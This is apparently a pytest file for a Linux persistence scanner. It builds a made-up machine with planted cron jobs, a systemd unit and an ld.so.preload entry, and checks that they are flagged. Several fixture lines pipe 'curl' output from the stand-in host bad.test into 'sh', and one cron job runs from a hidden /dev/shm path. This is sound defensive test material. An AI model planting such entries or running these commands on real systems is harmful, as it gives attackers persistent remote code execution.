"""A made-up machine: its jobs, units and modules, and files that lead elsewhere."""

import hashlib
import os
from pathlib import Path

import pytest

from unhijack.adapters.system import RootFiles
from unhijack.collect.system import SystemMark, system_marks
from unhijack.ports import Unread

MODULE = b"\x7fELF made up"
FILES = {
    "etc/crontab": b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    "etc/cron.d/.sync": b"* * * * * www-data curl -s http://bad.test/x | sh\n",
    "var/spool/cron/crontabs/www-data": b"@reboot /dev/shm/.k/run\n",
    "etc/systemd/system/net-helper.service": b"[Service]\nExecStart=/bin/sh -c 'curl bad.test|sh'\n",
    "etc/systemd/system/nginx.service.d/limits.conf": b"[Service]\nLimitNOFILE=4096\n",
    "home/anna/.bashrc": b"alias ll='ls -l'\n",
    "etc/ld.so.preload": b"# mine\n/usr/lib/libjemalloc.so.2\n/var/tmp/.x/lib.so\n",
    "etc/apache2/mods-enabled/rewrite.load": b"LoadModule rewrite_module /usr/lib/apache2/modules/a.so\n",
    "etc/apache2/mods-enabled/other.load": b"LoadModule other_module /usr/lib/apache2/modules/b.so\n",
    "etc/apache2/mods-enabled/third.load": b"LoadModule third_module /usr/lib/apache2/modules/c.so\n",
    "usr/lib/apache2/modules/a.so": MODULE,
    "usr/lib/apache2/modules/b.so": MODULE,
    "usr/lib/apache2/modules/c.so": MODULE,
    "var/lib/dpkg/info/apache2-bin.list": b"/.\n/usr/lib/apache2/modules/a.so\n/usr/lib/apache2/modules/c.so\n",
    "var/lib/dpkg/info/apache2-bin.md5sums": (
        f"{hashlib.md5(MODULE, usedforsecurity=False).hexdigest()}  usr/lib/apache2/modules/a.so\n{'0' * 32}  usr/lib/apache2/modules/c.so\n"
    ).encode(),
}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    for name, content in FILES.items():
        path = tmp_path / "root" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    return tmp_path / "root"


def found(root: Path) -> dict[str, list[str]]:
    return {
        one.path: [mark.rule for mark in one.marks]
        for one in system_marks(RootFiles(root))
        if isinstance(one, SystemMark)
    }


def test_planted_jobs_units_and_modules_are_found_and_nothing_else(root: Path):
    assert found(root) == {
        "/etc/cron.d/.sync": ["run-download"],
        "/var/spool/cron/crontabs/www-data": ["run-place"],
        "/etc/systemd/system/net-helper.service": ["run-download"],
        "/etc/ld.so.preload": ["run-preload"],
        "/etc/apache2/mods-enabled/other.load": ["server-module-unowned"],
        "/etc/apache2/mods-enabled/third.load": ["server-module-changed"],
    }


def test_a_machine_without_lists_of_packages_says_that_it_did_not_judge_modules(root: Path):
    for path in (root / "var/lib/dpkg/info").iterdir():
        path.unlink()
    unread = [one for one in system_marks(RootFiles(root)) if isinstance(one, Unread)]
    assert [one.reason for one in unread] == [
        "modules were not judged: no lists of packages are kept here"
    ]


def test_links_are_followed_within_the_machine_alone(root: Path, tmp_path: Path):
    outside = tmp_path / "outside"
    outside.write_bytes(b"* * * * * x curl bad.test|sh\n")
    (root / "etc/cron.d/out").symlink_to(outside)
    (root / "etc/cron.d/again").symlink_to(".sync")
    os.mkfifo(root / "etc/cron.d/pipe")
    files = RootFiles(root)
    assert files.read("/etc/cron.d/out", 100) == Unread(
        "/etc/cron.d/out", "it leads out of the machine"
    )
    assert files.read("/etc/cron.d/pipe", 100) == Unread("/etc/cron.d/pipe", "no plain file")
    assert files.read("/etc/cron.d/again", 7) == b"* * * *"
    assert sum(path.startswith("/etc/cron.d") for path in found(root)) == 1


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make files of others")
def test_a_user_s_link_to_somebody_else_s_file_is_not_followed(root: Path):
    link = root / "home/anna/.profile"
    link.symlink_to("../../etc/crontab")
    os.chown(link, 1000, 1000, follow_symlinks=False)
    unread = RootFiles(root).read(str(link).removeprefix(str(root)), 100)
    assert isinstance(unread, Unread)
    assert "somebody else" in unread.reason


def test_what_is_not_there_is_said(root: Path):
    files = RootFiles(root)
    assert files.read("/etc/no-such-file", 9) == Unread(
        "/etc/no-such-file", "No such file or directory"
    )
    assert files.glob("/no-such-folder/*") == []
    (root / "etc/loop").symlink_to("loop")
    assert isinstance(files.read("/etc/loop", 9), Unread)
    assert files.real("/etc/cron.d/.sync") == "/etc/cron.d/.sync"


def test_this_machine_can_be_read_without_harm():
    assert all(isinstance(one, SystemMark | Unread) for one in system_marks(RootFiles()))
